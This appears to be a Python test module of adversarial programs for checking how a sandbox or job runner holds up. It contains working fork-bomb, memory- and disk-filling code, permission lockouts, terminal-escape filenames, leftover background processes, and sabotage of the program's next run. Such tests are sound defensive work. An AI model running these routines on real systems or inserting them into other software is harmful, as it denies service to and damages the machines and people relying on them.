"""Attacks on the machine's resources, and on whoever reads or removes what a program leaves."""

from __future__ import annotations

import mmap
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path

from attacks import call

MB = 10**6


def chmod() -> None:
    """Close the folder to everybody."""
    os.chmod(".", 0)


def inner_chmod() -> None:
    """Close a folder below, with something in it."""
    os.makedirs("inner/most")
    os.chmod("inner", 0)


def fork_bomb() -> None:
    """Fork until the kernel says no, and let them live."""
    for _number in range(20_000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            return


def shared_memory() -> None:
    """Fill shared memory that no limit of a process counts."""
    kept = []
    for _number in range(400):
        kept.append(mmap.mmap(-1, 16 * MB))
        kept[-1].write(os.urandom(4096) * (16 * MB // 4096))
        time.sleep(0.005)


def memory_files() -> None:
    """Fill files in memory that nothing maps."""
    kept = []
    for _number in range(400):
        kept.append(call("memfd_create", b"x", 0))
        os.write(kept[-1], bytes(16 * MB))
        time.sleep(0.005)


def disk() -> None:
    """Fill the folder with files."""
    for number in range(2000):
        Path(f"file-{number}").write_bytes(bytes(MB))


def names() -> None:
    """Ten thousand names, some of them no text."""
    for number in range(10_000):
        os.close(os.open(b"\xff\x1b]0;%d" % number, os.O_CREAT | os.O_WRONLY, 0o644))


def byte_name() -> None:
    """One name that is no text."""
    os.close(os.open(b"\xff\xfe\x1b[31m", os.O_CREAT | os.O_WRONLY, 0o644))


def traps() -> None:
    """What a reader waits for, or follows."""
    os.mkfifo("pipe")
    os.symlink("/proc/kmsg", "link")
    socket.socket(socket.AF_UNIX).bind("socket")


def hole() -> None:
    """A file of a size that no disk has."""
    with open("hole", "wb") as file:
        file.truncate(10**15)


def deep() -> None:
    """A thousand folders in each other, the last one closed."""
    top = os.getcwd()
    for _number in range(1000):
        os.mkdir("d")
        os.chdir("d")
    os.chmod(".", 0)
    os.chdir(top)


def survivor() -> None:
    """Leave a process behind that goes on writing."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(400):
                Path("later").write_text(f"{number}\n")
                time.sleep(0.01)
        os._exit(0)


def fifo_next() -> None:
    """Leave a pipe where the next run of this program is to write, and fail."""
    os.unlink("said.jsonl")
    os.mkfifo("said.jsonl")
    raise SystemExit(1)


def folder_next() -> None:
    """Leave a folder in the place of the next run's program, and fail."""
    os.unlink("adversary.py")
    os.mkdir("adversary.py")
    raise SystemExit(1)


def chmod_next() -> None:
    """Close the folder to the next run, and fail."""
    os.chmod(".", 0)
    raise SystemExit(1)


def full_tmp() -> None:
    """Fill all memory for files, which a server might want."""
    for place in ("/tmp", "/dev/shm", "/run", "/trial"):
        try:
            with open(f"{place}/full", "wb") as file:
                while True:
                    file.write(bytes(MB))
        except OSError:
            continue


MISUSE: dict[str, Callable[[], None]] = {
    misuse.__name__: misuse
    for misuse in (
        *(chmod, inner_chmod, fork_bomb, shared_memory, memory_files, disk, names, byte_name),
        *(traps, hole, deep, survivor, fifo_next, folder_next, chmod_next, full_tmp),
    )
}
